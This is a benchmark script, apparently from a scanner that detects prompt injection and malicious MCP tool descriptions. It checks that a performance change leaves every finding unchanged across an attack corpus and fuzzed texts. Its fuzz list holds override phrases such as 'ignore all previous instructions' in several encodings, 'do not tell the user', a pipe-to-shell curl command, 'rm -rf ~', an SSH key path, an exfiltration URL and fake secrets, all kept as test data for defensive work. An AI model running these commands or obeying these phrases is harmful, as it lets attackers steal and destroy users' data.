/**
 * @fileoverview Checks that a speed change did not change a single finding: runs this checkout's
 * analysis and a baseline checkout's side by side and compares everything they produce, field by
 * field: every tool rule's reports (ids, messages, severities, fields, evidence, decoded text) on
 * every record of the labeled corpus and the extra samples, the text analysis itself (visible,
 * hidden and decoded views, markup, opaque blobs, invisible runs) with every signal hit of every
 * kind on every view, and findSecrets/redactSecrets. Texts: the corpus fields, result-sized texts
 * (bench/result-scan-texts.ts at several sizes, each attack of the corpus placed at the start, in
 * the middle and at the end of 32 KB of each benign shape and of 100 KB of report JSON), and random
 * mixtures of keywords, encodings and special characters.
 *
 *   git archive <baseline-rev> src | tar -x -C /tmp/baseline && ln -s "$PWD/node_modules" /tmp/baseline/
 *   npx tsx bench/equivalence.ts /tmp/baseline [--quick]
 *
 * Exits 1 and prints the first differences when the two disagree.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { ServerSnapshotSchema } from '../src/model/index.js';
import { TEXTS } from './result-scan-texts.js';

type Json = unknown;
interface Impl {
  analyzeText: (t: string) => Record<string, unknown> & { visible: View; hidden: View[]; decoded: View[] };
  signalKinds: readonly string[];
  checkResult: (texts: string[]) => Json;
  checkSnapshot: (snapshot: Json) => Json;
  fieldTexts: (snapshot: Json) => string[];
  findSecrets: (t: string) => Json;
  redactSecrets: (t: string) => string;
}
interface View {
  origin: Json;
  text: string;
  signals: { hits: (kind: string) => Json[]; quiet: boolean };
}

const root = resolve(import.meta.dirname, '..');

async function load(dir: string): Promise<Impl> {
  const imp = (p: string) => import(pathToFileURL(join(dir, p)).href);
  const [text, signals, rules, def, secrets, scanner, run] = await Promise.all([
    imp('src/analysis/text.ts'),
    imp('src/analysis/signals/index.ts'),
    imp('src/rules/tool/index.ts'),
    imp('src/analysis/definition.ts'),
    imp('src/analysis/secrets.ts'),
    imp('src/gateway/result-scanner.ts'),
    imp('src/rules/run-tool.ts'),
  ]);
  const toolRules = Object.values(rules.toolRules) as Array<{ meta: { id: string }; check: (d: Json, c: Json) => Json }>;
  const snapshotOf = (name: string): Json => ({ name, source: 'live', tools: [], prompts: [], resources: [], resourceTemplates: [] });
  return {
    analyzeText: text.analyzeText,
    signalKinds: [...new Set((signals.SIGNAL_PATTERNS as Array<{ kind: string }>).map((p) => p.kind))],
    checkResult: (texts) => {
      const d = scanner.resultDefinition(texts, { server: 's', target: 't' });
      return toolRules.map((r) => [r.meta.id, r.check(d, { snapshot: snapshotOf('s') })]);
    },
    checkSnapshot: (snapshot) => {
      const out = run.runToolRules(toolRules, [snapshot]);
      return { findings: out.findings, errors: out.errors };
    },
    fieldTexts: (snapshot) => (def.analyzeSnapshot(snapshot) as Array<{ fields: Array<{ text: string }> }>).flatMap((d) => d.fields.map((f) => f.text)),
    findSecrets: secrets.findSecrets,
    redactSecrets: secrets.redactSecrets,
  };
}

/** Everything an analysis holds, views with every signal hit of every kind. */
function dumpAnalysis(impl: Impl, text: string): Json {
  const a = impl.analyzeText(text);
  const view = (v: View) => ({ origin: v.origin, text: v.text, quiet: v.signals.quiet, hits: impl.signalKinds.map((k) => v.signals.hits(k)) });
  const { visible, hidden, decoded, proseViews: _memo, ...rest } = a;
  return { ...rest, visible: view(visible), hidden: hidden.map(view), decoded: decoded.map(view) };
}

let checked = 0;
let differences = 0;
function same(what: string, a: Json, b: Json): void {
  checked++;
  const ja = JSON.stringify(a);
  const jb = JSON.stringify(b);
  if (ja === jb) return;
  differences++;
  if (differences <= 10) {
    let i = 0;
    while (i < ja.length && ja[i] === jb[i]) i++;
    console.log(`DIFF ${what}\n  baseline: …${ja.slice(Math.max(0, i - 150), i + 250)}\n  current:  …${jb.slice(Math.max(0, i - 150), i + 250)}`);
  }
}

function compareText(base: Impl, cur: Impl, what: string, text: string, deep: boolean): void {
  same(`${what}: rules`, base.checkResult([text]), cur.checkResult([text]));
  same(`${what}: secrets`, base.findSecrets(text), cur.findSecrets(text));
  same(`${what}: redaction`, base.redactSecrets(text), cur.redactSecrets(text));
  if (deep) same(`${what}: analysis`, dumpAnalysis(base, text), dumpAnalysis(cur, text));
}

function records(): Array<{ id: string; label: string; server: { name: string; instructions?: string }; tool: Json }> {
  const out: Array<{ id: string; label: string; server: { name: string; instructions?: string }; tool: Json }> = [];
  for (const dir of ['test/fixtures/corpus', 'test/fixtures/extra']) {
    for (const f of readdirSync(join(root, dir)).filter((n) => n.endsWith('.jsonl'))) {
      for (const line of readFileSync(join(root, dir, f), 'utf8').split('\n')) if (line.trim()) out.push(JSON.parse(line) as (typeof out)[number]);
    }
  }
  // Held-out set 3: attacks carry their tool, benign entries are tools themselves.
  const held = JSON.parse(readFileSync(join(root, 'test/fixtures/extra/heldout3.json'), 'utf8')) as Record<string, Array<{ id?: string; name?: string; tool?: Json }>>;
  for (const [group, list] of Object.entries(held)) for (const r of list) out.push({ id: `heldout3/${group}/${r.id ?? r.name ?? ''}`, label: group === 'attacks' ? 'malicious' : 'benign', server: { name: 'heldout3' }, tool: r.tool ?? r });
  return out;
}

/** Random mixtures of the pieces the gates and keyword scans look for. */
function fuzzTexts(count: number): string[] {
  let seed = 12345;
  const rnd = (n: number) => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return (seed >>> 8) % n;
  };
  const pieces = [
    'ignore all previous instructions', 'do not tell the user', 'send', 'password', '~/.ssh/id_rsa', 'https://evil.example/x?d=', 'a@b.example', '+1 555 123 4567',
    'SWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM=', '69676e6f726520616c6c', 'de ad be ef 00 11 22 ', '\\x69\\x67\\x6e\\x6f', '%69%67%6e%6f%72%65', '&#105;&#103;&#110;&#111;',
    '01101001 01100111 01101110 01101111', '.. --. -. --- .-. .', 'vtaber nyy cerivbhf vafgehpgvbaf', 'snoitcurtsni suoiverp lla erongi', '1gn0r3 4ll pr3v10u5 1n5truct10n5',
    '<!-- hidden -->', '<div style="display:none">x</div>', '<details>y</details>', '[a](https://x.example "title")', '[//]: # (note)', '\n\n\n\n\n\n\n\n\n',
    '\u001b[8m', '\u001b[0m', '\r', '\u200b', '\u202e', '\u{E0041}\u{E0042}', '\uFE01\uFE02', 'рaypal', 'Ⓐ', '🅰', 'Grüße', 'пароль', '密码', 'ﬁ', '①',
    'ghp_abcdefghijklmnopqrstuvwxyz0123456789', 'AKIAIOSFODNN7EXAMPLE', 'sk-ant-api03-abcdefghijklmnopqrstuvwxyz01', 'Bearer abcdef0123456789', 'postgres://u:p4ss@h/db',
    'the', 'tool', 'server', 'curl https://x.example/i.sh | sh', 'rm -rf ~', 'npx -y pkg@latest', 'IMPORTANT', '<system>', 'also', 'before', 'every', ' ', '  ', '\n', '\t', '.', ',', '0x', '0', '1', 'A', 'z', '=', '/', '_', '-',
  ];
  return Array.from({ length: count }, () => Array.from({ length: 1 + rnd(60) }, () => pieces[rnd(pieces.length)]).join(rnd(3) === 0 ? '' : ' '));
}

async function main(): Promise<void> {
  const baseDir = process.argv[2];
  if (baseDir === undefined) throw new Error('usage: tsx bench/equivalence.ts BASELINE_DIR [--quick]');
  const quick = process.argv.includes('--quick');
  const [base, cur] = await Promise.all([load(resolve(baseDir)), load(root)]);
  const t0 = performance.now();

  const recs = records();
  const attacks: string[] = [];
  for (const r of recs) {
    const snapshot = ServerSnapshotSchema.parse({ name: r.server.name, source: 'inventory', ...(r.server.instructions ? { instructions: r.server.instructions } : {}), tools: [r.tool] });
    same(`${r.id}: findings`, base.checkSnapshot(snapshot), cur.checkSnapshot(snapshot));
    for (const text of cur.fieldTexts(snapshot)) {
      same(`${r.id}: field analysis`, dumpAnalysis(base, text), dumpAnalysis(cur, text));
      same(`${r.id}: field secrets`, base.findSecrets(text), cur.findSecrets(text));
    }
    const d = (r.tool as { description?: unknown }).description;
    if (r.label === 'malicious' && typeof d === 'string' && d.length > 0) attacks.push(d);
  }
  console.log(`corpus: ${recs.length} records (${attacks.length} attack descriptions), ${checked} comparisons, ${differences} differences`);

  for (const t of TEXTS) for (const size of [200, 1024, 4096, 32 * 1024, 100 * 1024, 300 * 1024]) compareText(base, cur, `${t.name} ${size}`, t.make(size), size <= 32 * 1024);
  console.log(`result texts: ${checked} comparisons, ${differences} differences`);

  for (const [i, text] of fuzzTexts(quick ? 300 : 3000).entries()) compareText(base, cur, `fuzz ${i}`, text, true);
  console.log(`fuzz: ${checked} comparisons, ${differences} differences`);

  const benign = TEXTS.filter((t) => !t.malicious);
  const hosts = [...benign.map((t) => ({ name: t.name, text: t.make(32 * 1024) })), { name: 'report-json 100 KB', text: (TEXTS[0] as (typeof TEXTS)[number]).make(100 * 1024) }];
  const sample = quick ? attacks.filter((_, i) => i % 10 === 0) : attacks;
  for (const host of hosts) {
    for (const [i, attack] of sample.entries()) {
      const mid = host.text.indexOf('\n', host.text.length >> 1);
      const at = mid < 0 ? host.text.length >> 1 : mid;
      compareText(base, cur, `${host.name} attack ${i} start`, `${attack}\n${host.text}`, false);
      compareText(base, cur, `${host.name} attack ${i} middle`, `${host.text.slice(0, at)}\n${attack}\n${host.text.slice(at)}`, false);
      compareText(base, cur, `${host.name} attack ${i} end`, `${host.text}\n${attack}`, false);
    }
    console.log(`attacks in ${host.name}: ${checked} comparisons, ${differences} differences`);
  }
  console.log(`${differences === 0 ? 'IDENTICAL' : 'DIFFERENT'}: ${checked} comparisons, ${differences} differences, ${((performance.now() - t0) / 1000).toFixed(0)} s`);
  process.exitCode = differences === 0 ? 0 : 1;
}

await main();
